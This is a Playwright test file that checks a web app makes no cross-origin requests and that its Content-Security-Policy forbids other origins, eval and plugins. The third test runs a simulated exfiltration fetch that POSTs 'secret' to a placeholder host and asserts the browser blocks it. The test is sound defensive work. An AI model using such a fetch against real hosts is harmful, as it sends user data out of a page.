import { expect, test, waitForServiceWorker } from './fixtures';

const pages = ['/', '/ticket', '/ticket?id=1', '/admin/smime'];

test('a walk through every page requests nothing from another origin', async ({ page, requests }) => {
	for (const path of pages) {
		await page.goto(path);
		await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
	}
	await waitForServiceWorker(page);
	for (const path of pages) await page.goto(path);
	expect(requests.urls.length).toBeGreaterThan(pages.length);
	expect(requests.foreign()).toEqual([]);
});

test('the Content-Security-Policy forbids other origins, eval and plugins', async ({ page }) => {
	await page.goto('/');
	const csp = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
	expect(csp).toBeTruthy();
	const directives = new Map(
		(csp ?? '').split(';').map((part) => {
			const [name = '', ...values] = part.trim().split(/\s+/);
			return [name, values] as const;
		})
	);
	expect(directives.get('default-src')).toEqual(["'self'"]);
	expect(directives.get('connect-src')).toEqual(["'self'"]);
	expect(directives.get('object-src')).toEqual(["'none'"]);
	expect(directives.get('base-uri')).toEqual(["'none'"]);
	expect(csp).not.toContain('unsafe-eval');
	expect(directives.get('script-src')).not.toContain("'unsafe-inline'");
});

test('the browser itself blocks a request to another origin', async ({ page }) => {
	await page.goto('/');
	const violations: string[] = [];
	await page.exposeFunction('reportViolation', (directive: string) => violations.push(directive));
	const outcome = await page.evaluate(async () => {
		const report = (window as unknown as { reportViolation: (d: string) => Promise<void> }).reportViolation;
		document.addEventListener('securitypolicyviolation', (event) => {
			void report(event.effectiveDirective);
		});
		try {
			await fetch('https://example.invalid/exfiltrate', { method: 'POST', body: 'secret' });
			return 'sent';
		} catch {
			return 'blocked';
		}
	});
	expect(outcome).toBe('blocked');
	await expect.poll(() => violations).toContain('connect-src');
});
